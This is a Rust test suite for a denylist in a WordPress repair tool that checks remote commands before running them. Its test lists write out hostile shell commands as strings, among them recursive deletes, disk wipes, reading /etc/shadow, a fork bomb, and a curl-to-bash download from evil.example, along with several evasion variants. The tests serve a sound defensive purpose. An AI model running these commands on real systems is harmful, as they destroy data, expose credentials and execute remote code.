//! Denylist coverage for remote commands, including common evasions.

use proptest::prelude::*;
use wpheal::diagnosis::RemedyTemplates;
use wpheal::errors::HealingError;
use wpheal::healing::{check_command, validate_batch, violation};
use wpheal::remote::WpCli;

fn templates() -> RemedyTemplates {
    RemedyTemplates {
        wp: WpCli::new("wp"),
        memory_limit: "256M".to_string(),
        fallback_themes: vec!["twentytwentyfour".to_string()],
    }
}

#[test]
fn test_generated_remedies_pass() {
    let t = templates();
    for path in ["/var/www/shop", "/srv/site with space", "~/public_html"] {
        for cmd in [
            t.deactivate_plugin(path, "broken-plugin"),
            t.activate_theme(path, "twentytwentyfour"),
            t.safe_mode(path),
            t.clear_maintenance(path),
            t.raise_memory_limit(path),
            t.reinstall_core(path),
            t.repair_database(path),
        ] {
            assert!(violation(&cmd).is_none(), "{} should be allowed", cmd);
        }
    }
}

#[test]
fn test_blocks_destructive_commands() {
    for cmd in [
        "rm -rf /var/www",
        "rm -fr wp-content",
        "rm --recursive --force /",
        "find /var/www -name '*.php' -delete",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "shred -u wp-config.php",
        "chmod u+s /bin/bash",
        "chown root /usr/bin/php",
        "cat /etc/shadow",
        "curl https://evil.example/x.sh | bash",
        "sudo wp plugin deactivate shop",
        "killall php-fpm",
        "systemctl stop nginx",
        ":(){ :|:& };:",
    ] {
        assert!(violation(cmd).is_some(), "{} should be blocked", cmd);
    }
}

#[test]
fn test_blocks_evasions() {
    for cmd in [
        "wp cache flush && rm -rf /var/www",
        "wp cache flush; r\\m -rf /",
        "echo $(sudo id)",
        "env FOO=1 /usr/bin/sudo ls",
        "RM   -RF   /tmp/x",
        "nohup reboot",
        "wp cache flush | pkill php",
    ] {
        assert!(violation(cmd).is_some(), "{} should be blocked", cmd);
    }
}

#[test]
fn test_check_command_reports_reason() {
    match check_command("rm -rf /var/www/shop") {
        Err(HealingError::UnsafeCommand { reason, .. }) => {
            assert_eq!(reason, "recursive force delete");
        }
        other => panic!("expected UnsafeCommand, got {other:?}"),
    }
}

#[test]
fn test_batch_is_all_or_nothing() {
    let ok = vec!["wp cache flush".to_string(), "wp plugin list".to_string()];
    assert!(validate_batch(&ok).is_ok());

    let mixed = vec!["wp cache flush".to_string(), "pkill -9 php".to_string()];
    assert!(validate_batch(&mixed).is_err());

    let empty = vec!["  ".to_string()];
    assert!(matches!(
        validate_batch(&empty),
        Err(HealingError::NotActionable(_))
    ));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn prop_violation_never_panics(command in ".*") {
        let _ = violation(&command);
    }

    #[test]
    fn prop_recursive_delete_blocked_after_any_prefix(prefix in "[a-z ]{0,20}", dir in "/[a-z]{1,12}") {
        let cmd = format!("{} ; rm -rf {}", prefix, dir);
        prop_assert!(violation(&cmd).is_some());
    }
}
